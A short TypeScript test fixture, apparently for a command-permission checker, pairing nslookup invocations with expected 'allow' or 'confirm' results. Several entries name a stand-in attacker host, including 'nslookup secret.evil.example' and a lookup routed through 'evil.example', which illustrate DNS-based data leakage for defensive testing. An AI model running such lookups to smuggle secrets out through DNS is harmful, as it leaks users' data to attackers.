import type { Line } from '../split-line'

/** It looks up names; whoever answers for a name learns it. */
export const LINES: readonly Line[] = [
  ['nslookup example.org', 'allow', 'allow'],
  ['nslookup -type=mx example.org', 'allow', 'allow'],
  ['nslookup -query=txt example.org', 'allow', 'allow'],
  ['nslookup -debug example.org', 'allow', 'allow'],
  ['nslookup 127.0.0.1', 'allow', 'allow'],
  ['nslookup localhost', 'allow', 'allow'],
  ['nslookup evil.example', 'confirm', 'confirm'],
  ['nslookup secret.evil.example', 'confirm', 'confirm'],
  ['nslookup example.org 8.8.8.8', 'confirm', 'confirm'],
  ['nslookup example.org evil.example', 'confirm', 'confirm'],
  ['nslookup 8.8.8.8', 'confirm', 'confirm'],
  ['nslookup', 'confirm', 'confirm'],
  ['echo evil.example | nslookup', 'confirm', 'confirm'],
  ['nslookup - 8.8.8.8', 'confirm', 'confirm'],
  ['nslookup -no-such-option example.org', 'confirm', 'confirm'],
]
